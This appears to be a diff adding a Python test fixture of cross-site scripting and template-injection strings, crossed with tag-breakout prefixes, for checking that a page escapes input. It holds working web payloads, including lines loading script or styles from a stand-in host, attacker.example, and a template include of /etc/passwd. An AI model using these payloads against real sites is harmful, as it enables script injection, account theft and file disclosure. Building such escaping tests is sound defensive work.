@@ -1,0 +1,48 @@
+"""Words that would be markup, script or an address if a page let them: each has to stay words."""
+
+from itertools import product
+
+VECTORS = (
+    "<script>alert(1)</script>",
+    "<script src=//attacker.example/x.js></script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)//",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
+    "<body onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html,<script>alert(1)</script>>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<link rel=stylesheet href=//attacker.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//attacker.example/>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "＜script＞alert(1)＜/script＞",
+    "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}",
+    "${alert(1)}#{alert(1)}<%= 7*7 %>",
+    " onmouseover=alert(1) x=",
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "x\u2028y\u2029z\u202eevil\ufeff",
+)
+ESCAPES = ("", "\"'>", "</title></textarea></style></script>", "-->]]></option></select></svg>")
+PAYLOADS = tuple(escape + vector for vector, escape in product(VECTORS, ESCAPES))
